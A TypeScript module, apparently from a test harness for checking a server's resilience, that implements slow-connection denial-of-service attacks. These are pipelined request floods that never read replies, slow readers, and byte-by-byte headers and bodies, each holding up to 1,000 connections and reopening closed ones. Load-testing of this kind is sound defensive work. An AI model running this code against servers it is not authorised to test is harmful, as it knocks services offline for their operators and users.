/**
 * Clients without a secret that hold connections. Each attack goes on until the signal is aborted: what the receiver
 * closes is opened again. They resolve with what they did.
 */
import { setMaxListeners } from 'node:events';
import type { Socket } from 'node:net';
import type { Counts } from '../scenario.js';
import { connect, headOf, pause, type Target } from './connection.js';

/** An attack on a receiver of this machine. */
export type Attacker = (target: Target, signal: AbortSignal) => Promise<Counts>;

/** As many as a receiver keeps open. */
const CONNECTIONS = 1_000;
/**
 * A connection that was closed is opened again after half of this time to one and a half: at once, or all in the same
 * moment, would be an attack on the processor, which needs no held connections.
 */
const AGAIN_MS = 15_000;
/** The slow ones send or read a little in each of these intervals. */
const STEP_MS = 1_000;

/** Twenty connections, each with packets of 2,000 requests, of whose answers nothing is read. */
export const pipelinedReads: Attacker = (target, signal) => {
  const packet = `GET ${target.path} HTTP/1.1\r\nHost: x\r\n\r\n`.repeat(2_000);
  return hold(target, signal, { first: packet, connections: 20, againMs: 500 });
};

/** A large file is asked for, and a little of it read now and then. */
export const slowReaders: Attacker = (target, signal) =>
  hold(target, signal, {
    first: `GET ${target.path} HTTP/1.1\r\nHost: x\r\n\r\n`,
    again: (socket) => socket.read(100),
  });

/** Headers that come byte by byte. */
export const slowHeaders: Attacker = (target, signal) =>
  hold(target, signal, {
    first: `GET ${target.path} HTTP/1.1\r\nHost: x\r\nX-Slow: `,
    again: (socket) => socket.resume().write('x'),
  });

/** Bodies that come byte by byte. */
export const slowBodies: Attacker = (target, signal) =>
  hold(target, signal, {
    first: headOf(target, 'Content-Length: 100000'),
    again: (socket) => socket.resume().write('x'),
  });

interface Holding {
  /** What is sent first on each connection; nothing is read but by `again`. */
  readonly first: string;
  /** What is done in each interval, until the connection is closed. */
  readonly again?: (socket: Socket) => unknown;
  readonly connections?: number;
  readonly againMs?: number;
}

/** Holds connections. */
async function hold(
  target: Target,
  signal: AbortSignal,
  { first, again, connections = CONNECTIONS, againMs = AGAIN_MS }: Holding,
): Promise<Counts> {
  const counts = { opened: 0, refused: 0, mostAtOnce: 0 };
  let open = 0;
  setMaxListeners(0, signal); // one a connection
  const lane = async (share: number) => {
    await pause(share * againMs, signal);
    while (!signal.aborted) {
      const { socket, opened, closed } = connect(target, signal);
      socket.pause();
      socket.write(first);
      if (await opened) {
        counts.opened++;
        counts.mostAtOnce = Math.max(counts.mostAtOnce, ++open);
        while (again !== undefined && !socket.destroyed && !signal.aborted) {
          await pause(STEP_MS, signal);
          again(socket);
        }
        await closed;
        open--;
      } else if (!signal.aborted) counts.refused++;
      await pause((0.5 + share) * againMs, signal);
    }
  };
  await Promise.all(Array.from({ length: connections }, (_, n) => lane(n / connections)));
  return counts;
}
